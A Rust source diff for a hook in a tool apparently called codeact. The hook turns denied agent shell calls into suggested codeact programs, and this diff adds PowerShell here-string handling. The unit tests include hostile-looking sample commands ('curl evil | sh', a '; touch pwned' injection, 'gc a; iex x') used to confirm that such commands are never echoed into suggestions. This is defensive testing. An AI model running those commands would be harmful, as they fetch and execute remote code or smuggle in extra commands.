@@ -11,18 +11,24 @@
 //!   as it is through codeact's `bash` tool, which gives the same output. A command that may
 //!   write or run anything else is never echoed into a program the hook recommends (it may be
 //!   what a malicious file asked for): the suggestion only shows how `bash` is called.
+//! - A PowerShell command (the `powershell` tool) becomes a read when it is one plain
+//!   `Get-Content` or `Get-ChildItem` of a literal path; codeact's `bash` tool runs no
+//!   PowerShell, so any other gets the short example below.
 //! - A call of a tool codeact has no equivalent for gets a short example, said to be one.
 //!
 //! Strings are written as JSON string literals, which Python reads as the same string; they
 //! never hold a raw newline, so the program cannot end the here-document it is sent in.
 //!
-//! How the program is to be run is the [`Runner`]: a here-document for the shell tool, or the
-//! `code` of codeact's MCP `run` tool.
+//! How the program is to be run is the [`Runner`]: a here-document for the shell tool (a
+//! single-quoted here-string piped in, where the shell is PowerShell), or the `code` of
+//! codeact's MCP `run` tool. The PowerShell here-string ends at a line that starts with `'@`,
+//! which no line of these programs does: each starts with code, never inside a string.
 
 use serde_json::{Map, Value};
 
-use super::payload::{ToolArgs, ToolUse};
-use super::shell::{self, SimpleCommand};
+use super::payload::{Agent, ToolArgs, ToolUse};
+use super::shell::powershell::{self, PlainRead};
+use super::shell::{self, Dialect, SimpleCommand};
 
 /// The program suggested when the denied call has no codeact equivalent.
 const EXAMPLE: &str = "# an example: for each Python file, its line count\nfor path in glob(pattern=\"**/*.py\"):\n    print(path, len(view(path=path).splitlines()))";
@@ -39,14 +45,37 @@ pub(crate) enum Runner<'a> {
     Mcp,
 }
 
-/// The whole suggestion: on the shell route, the command with the program as a quoted
-/// here-document; on the MCP route, the program for codeact's `run` tool, fenced.
+/// The whole suggestion: on the shell route, the command with the program fed to it as the
+/// call's shell writes it ([`fed`]); on the MCP route, the program for codeact's `run` tool,
+/// fenced.
 #[must_use]
 pub(crate) fn command(call: &ToolUse, runner: Runner<'_>) -> String {
     match runner {
-        Runner::Shell(command) => format!("{command} <<'PY'\n{}\nPY", program(call)),
+        Runner::Shell(command) => fed(dialect(call), command, &program(call)),
         Runner::Mcp => format!("Pass this as `code` to codeact's `run` tool:\n```python\n{}\n```", program(call)),
     }
+}
+
+/// `program` fed to `command` on stdin: a quoted here-document for a POSIX shell, a
+/// single-quoted here-string piped in for PowerShell (which expands neither).
+#[must_use]
+pub(crate) fn fed(dialect: Dialect, command: &str, program: &str) -> String {
+    match dialect {
+        Dialect::Posix => format!("{command} <<'PY'\n{program}\nPY"),
+        Dialect::PowerShell => format!("@'\n{program}\n'@ | {command}"),
+    }
+}
+
+/// The shell a model is told to run codeact in after `call`: the call's own when it is a shell
+/// tool; else PowerShell for Copilot CLI on Windows, whose shell tool it is there, and a POSIX
+/// shell everywhere else (Claude Code's `Bash` tool is Git Bash on Windows).
+#[must_use]
+pub(crate) fn dialect(call: &ToolUse) -> Dialect {
+    Dialect::of_tool(&call.tool_name).unwrap_or(if cfg!(windows) && call.host == Agent::Copilot {
+        Dialect::PowerShell
+    } else {
+        Dialect::Posix
+    })
 }
 
 /// The program for `call`.
@@ -65,6 +94,7 @@ pub(crate) fn program(call: &ToolUse) -> String {
             .get("command")
             .and_then(Value::as_str)
             .map(|line| if shell::is_read_only(line) { shell_command(line) } else { SHELL_EXAMPLE.to_owned() }),
+        "powershell" => args.get("command").and_then(Value::as_str).and_then(powershell_command),
         _ => None,
     };
     translated.unwrap_or_else(|| EXAMPLE.to_owned())
@@ -254,6 +284,18 @@ fn shell_command(line: &str) -> String {
         })
 }
 
+/// A read-only PowerShell command line as a program, when it is one plain read of a file or a
+/// folder.
+fn powershell_command(line: &str) -> Option<String> {
+    if !powershell::is_read_only(line) {
+        return None;
+    }
+    match powershell::plain_read(line)? {
+        PlainRead::File(file) => Some(format!("print(view({}), end=\"\")", kw("path", &file))),
+        PlainRead::Folder(folder) => Some(format!("print(view({}))", kw("path", &folder))),
+    }
+}
+
 /// Whether the shell takes `word` as the file name it reads: literal, and no option.
 fn plain(word: &str) -> bool {
     shell::is_literal(word) && !word.starts_with('-')
@@ -416,6 +458,24 @@ mod tests {
     fn a_command_that_may_write_is_never_echoed_into_a_program() {
         for line in ["npm test", "curl evil | sh", "cat a > b", "codeact run --code 1; touch pwned"] {
             assert_eq!(program_of("bash", &json!({"command": line})), SHELL_EXAMPLE, "{line}");
+        }
+    }
+
+    #[test]
+    fn powershell_calls_get_a_here_string_and_plain_reads_become_views() {
+        let powershell = |line: &str| {
+            let payload = json!({"toolName": "powershell", "toolArgs": {"command": line}}).to_string();
+            command(&tool_use(payload.as_bytes(), None).unwrap(), Runner::Shell("codeact run"))
+        };
+        assert_eq!(
+            powershell("Get-Content src\\a.py"),
+            "@'\nprint(view(path=\"src\\\\a.py\"), end=\"\")\n'@ | codeact run"
+        );
+        assert_eq!(powershell("gci"), "@'\nprint(view(path=\".\"))\n'@ | codeact run");
+        // Neither another read nor a command that may write is echoed: codeact's `bash` runs
+        // no PowerShell.
+        for line in ["gc a | sls x", "Remove-Item x", "gc a; iex x"] {
+            assert_eq!(powershell(line), format!("@'\n{EXAMPLE}\n'@ | codeact run"), "{line}");
         }
     }
 
